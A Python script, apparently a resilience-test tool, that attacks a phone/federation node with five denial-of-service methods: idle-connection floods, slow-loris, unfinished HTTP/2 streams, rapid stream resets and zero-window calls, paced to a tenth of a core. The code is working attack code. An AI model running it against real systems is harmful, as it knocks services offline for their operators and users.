"""Attacks one node with a tenth of a core, and says once in how many bytes it is under way.

    attacker.py KIND --phone HOST:PORT --federation HOST:PORT --ca FILE [--cert FILE --key FILE] [--from ADDRESS]...

It paces itself by the CPU time that it has used, writes "ready" on standard output when the attack is at its height,
and goes on until its standard input ends. Then it writes what it has done, as one JSON object.

Kinds: idle (thousands of silent connections), slow-loris (headers byte by byte), streams (calls that are begun and
never finished), resets (calls that are begun and taken back at once), deaf (calls whose answers are never read).
"""

import argparse
import collections
import json
import resource
import selectors
import socket
import ssl
import sys
import threading
import time

SHARE = 0.1  # of one core

ended = threading.Event()
done = collections.Counter()


class Pace:
    """Keeps the CPU time below SHARE of the time that has passed; a little may be used ahead.

    Time in which it was stopped gives it nothing."""

    AHEAD, LOST = 0.02, 0.2

    def __init__(self):
        self.began, self.used = time.monotonic(), time.process_time()

    def rest(self):
        used = time.process_time() - self.used
        due = self.began + (used - self.AHEAD) / SHARE
        now = time.monotonic()
        if due > now:
            ended.wait(due - now)
        elif now - due > self.LOST:
            self.began += now - due


def ready():
    print("ready", flush=True)


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def tcp(target, source, timeout=5.0):
    return socket.create_connection(target, timeout=timeout, source_address=(source, 0))


def context(args, alpn=None):
    made = ssl.create_default_context(cafile=args.ca)
    made.check_hostname = False
    if args.cert:
        made.load_cert_chain(args.cert, args.key)
    if alpn:
        made.set_alpn_protocols([alpn])
    return made


# ---- HTTP/2, by hand -------------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, END_HEADERS, END_STREAM = 1, 3, 4, 4, 1


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block(headers):
    text = lambda t: bytes([len(t)]) + t.encode()
    return b"".join(b"\0" + text(name) + text(value) for name, value in headers)


CALL = block([
    (":method", "POST"), (":scheme", "https"), (":authority", "127.0.0.1"),
    (":path", "/emcc.federation.v1.FederationService/FindUser"),
    ("content-type", "application/grpc"), ("te", "trailers"), ("emcc-version", "1.1"),
])


# FindUser of a user that nobody has: login type UID, name "nobody".
MESSAGE = b"\x08\x01\x12\x06nobody"
BODY = b"\0" + len(MESSAGE).to_bytes(4, "big") + MESSAGE


def http2(args, trust, source, settings=b""):
    stream = trust.wrap_socket(tcp(address(args.federation), source), server_hostname="localhost")
    stream.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    done["connections"] += 1
    return stream


# ---- the attacks -----------------------------------------------------------------------------------------------

MOST_IDLE = 10_000


def idle(args, pace):
    """As many silent connections as it can have, on both ports; what is closed is opened anew."""
    targets = [address(args.phone), address(args.federation)]
    selector, held, number = selectors.DefaultSelector(), 0, 0
    told = False
    while not ended.is_set():
        if held < MOST_IDLE:
            made = socket.socket()
            made.setblocking(False)
            try:
                made.bind((args.source[number % len(args.source)], 0))
                made.connect_ex(targets[number % 2])
            except OSError:
                made.close()
                ended.wait(0.01)
                continue
            number += 1
            held += 1
            done["connections"] += 1
            selector.register(made, selectors.EVENT_READ)
        if number % 200 == 0 or held >= MOST_IDLE:
            # It keeps its own end of what was closed until it has all: the node must have let go of its end.
            if held >= MOST_IDLE:
                for key, _ in selector.select(0.05):
                    selector.unregister(key.fileobj)
                    key.fileobj.close()
                    held -= 1
            if not told and number >= args.enough:
                told = True
                ready()
            pace.rest()
        done["most"] = max(done["most"], held)


def slow_loris(args, pace):
    """Requests whose headers come byte by byte, over TLS."""
    trust, open_ones, told = context(args), [], False
    head = b"GET /emapp/EMAppServlet?device=SEP1 HTTP/1.1\r\nHost: x\r\n"
    while not ended.is_set():
        if len(open_ones) < args.enough:
            try:
                one = trust.wrap_socket(tcp(address(args.phone), args.source[0]), server_hostname="localhost")
                one.sendall(head)
                open_ones.append(one)
                done["connections"] += 1
            except OSError:
                done["refused"] += 1
        if not told and len(open_ones) + done["refused"] >= args.enough:
            told = True
            ready()
        if told:
            left = []
            for one in open_ones:
                try:
                    one.sendall(b"x")
                    left.append(one)
                except OSError:
                    done["closed"] += 1
                pace.rest()
                if ended.is_set():
                    return
            open_ones = left
        pace.rest()


def streams(args, pace):
    """Calls that are begun and never finished, as many as there may be on each connection."""
    trust, held, told = context(args, "h2"), [], False
    calls = b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) for n in range(256))
    while not ended.is_set():
        try:
            one = http2(args, trust, args.source[0])
            one.sendall(calls)
            done["calls"] += 256
            held.append(one)
        except OSError:
            done["refused"] += 1
        if not told and len(held) + done["refused"] >= args.enough:
            told = True
            ready()
        if len(held) > 80:
            held.pop(0).close()
        pace.rest()


def resets(args, pace):
    """Calls that are begun and taken back at once, until the node ends the connection; then the next one."""
    trust, told = context(args, "h2"), False
    while not ended.is_set():
        try:
            one = http2(args, trust, args.source[0])
            number = 0
            while not ended.is_set():
                batch = b"".join(
                    frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) + frame(RST, 0, 2 * n + 1, (8).to_bytes(4, "big"))
                    for n in range(number, number + 100)
                )
                number += 100
                one.sendall(batch)
                done["calls"] += 100
                pace.rest()
        except OSError:
            done["ended"] += 1
        if not told and done["ended"] >= args.enough:
            told = True
            ready()
        pace.rest()


def deaf(args, pace):
    """Whole calls, whose answers are never read: no window for them, and nobody at the socket."""
    trust, held, told = context(args, "h2"), [], False
    no_window = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
    calls = b"".join(
        frame(HEADERS, END_HEADERS, 2 * n + 1, CALL) + frame(0, END_STREAM, 2 * n + 1, BODY) for n in range(256)
    )
    while not ended.is_set():
        try:
            one = http2(args, trust, args.source[0], no_window)
            one.settimeout(0.2)
            one.sendall(calls)
            done["calls"] += 256
            held.append(one)
        except OSError:
            done["refused"] += 1
        if not told and done["connections"] + done["refused"] >= args.enough:
            told = True
            ready()
        if len(held) > 16:
            held.pop(0).close()
        pace.rest()


KINDS = {"idle": idle, "slow-loris": slow_loris, "streams": streams, "resets": resets, "deaf": deaf}


def until_input_ends():
    sys.stdin.read()
    ended.set()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--phone", required=True)
    parser.add_argument("--federation", required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--source", action="append", required=True)
    parser.add_argument("--enough", type=int, required=True, help="how much of it is its height")
    args = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if args.kind == "idle" and hard < MOST_IDLE + 100:
        print(f"this system lets a process have {hard} files, and {MOST_IDLE} connections are wanted", flush=True)
        return 3
    threading.Thread(target=until_input_ends, daemon=True).start()
    pace = Pace()
    KINDS[args.kind](args, pace)
    cpu = time.process_time() - pace.used
    # Without the time in which it was stopped.
    print(json.dumps({**done, "cpu": cpu, "seconds": time.monotonic() - pace.began}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
